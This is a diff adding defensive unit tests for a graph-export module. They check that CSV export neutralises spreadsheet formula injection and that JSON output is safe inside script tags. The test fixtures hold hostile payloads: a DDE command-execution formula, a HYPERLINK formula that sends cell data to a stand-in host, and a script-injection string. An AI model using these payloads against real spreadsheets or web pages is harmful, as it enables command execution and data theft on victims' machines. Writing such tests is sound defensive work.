@@ -376,3 +376,47 @@ describe('jsonld', () => {
     expect(node('e-qy')?.['annals:relations']).toEqual([{ '@id': 'urn:annals:r-follow', 'annals:type': 'FOLLOWED', 'annals:target': { '@id': 'urn:annals:e-zs' } }]);
   });
 });
+
+describe('hostile text', () => {
+  const evil = entity('e-evil', 'EVENT', '=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|" /C calc"!A0', {
+    kind: 'MEETING',
+    edtf: '2003',
+    descriptionEn: '@SUM(1+1)*cmd|" /C calc"!A0',
+    descriptionZh: '-2+3',
+  });
+  const tabbed = entity('p-tab', 'PERSON', '\t=1+1', '\r=1+1', { descriptionEn: '-42', descriptionZh: '-' });
+  const script = entity('o-script', 'ORGANIZATION', '</script><script>alert(1)</script>', 'a & b > c \u2028 \u2029', {});
+  const hostile: GraphSlice = {
+    entities: [evil, tabbed, script],
+    relations: [relation('=r1', 'ORGANIZED', script, evil, { title: '@title', titleEn: '-1' })],
+    citations: new Map([['=r1', [{ sourceId: 's', quote: '=cmd()' }]]]),
+    generatedAt: slice.generatedAt,
+  };
+
+  it('neutralizes spreadsheet formulas in CSV cells (OWASP: a leading quote), leaving real numbers alone', () => {
+    const nodes = parseCsv(renderExport('nodes.csv', hostile, { lang: 'en' }).body);
+    const row = (id: string) => nodes.find((r) => r[0] === id)!;
+    expect(row('e-evil')[2]).toBe('\'=HYPERLINK("http://x.example/?"&A1,"click")');
+    expect(row('e-evil')[3]).toBe('\'+cmd|" /C calc"!A0');
+    expect(row('e-evil')[8]).toBe('\'@SUM(1+1)*cmd|" /C calc"!A0');
+    expect(row('p-tab')[2]).toBe("'\t=1+1");
+    expect(row('p-tab')[3]).toBe("'\r=1+1");
+    expect(row('p-tab')[8]).toBe('-42');
+    expect(parseCsv(renderExport('nodes.csv', hostile, { lang: 'zh' }).body).find((r) => r[0] === 'p-tab')![8]).toBe("'-");
+    const edges = parseCsv(renderExport('edges.csv', hostile, { lang: 'zh' }).body);
+    expect(edges[1]).toEqual(["'=r1", 'o-script', 'e-evil', 'ORGANIZED', "'@title", '', '', "'=cmd()"]);
+    expect(parseCsv(renderExport('edges.csv', hostile, { lang: 'en' }).body)[1]![4]).toBe('-1');
+    for (const rows of [nodes, edges]) for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]/);
+  });
+
+  it('writes JSON that can sit in a <script> element, with the same value', () => {
+    for (const format of ['jsonld', 'timelinejs', 'vis-timeline'] as const) {
+      const { body } = renderExport(format, hostile, { lang: 'en' });
+      expect(body).not.toMatch(/[<>&\u2028\u2029]/);
+      expect(JSON.parse(body)).toEqual(JSON.parse(body.replace(/\\u003c/g, '<').replace(/\\u003e/g, '>').replace(/\\u0026/g, '&')));
+    }
+    const doc = JSON.parse(renderExport('jsonld', hostile, { lang: 'en' }).body) as { '@graph': { name: string; alternateName?: { '@value': string }[] }[] };
+    expect(doc['@graph'].map((n) => n.name)).toContain('</script><script>alert(1)</script>');
+    expect(JSON.stringify(doc)).toContain('a & b > c \u2028 \u2029');
+  });
+});
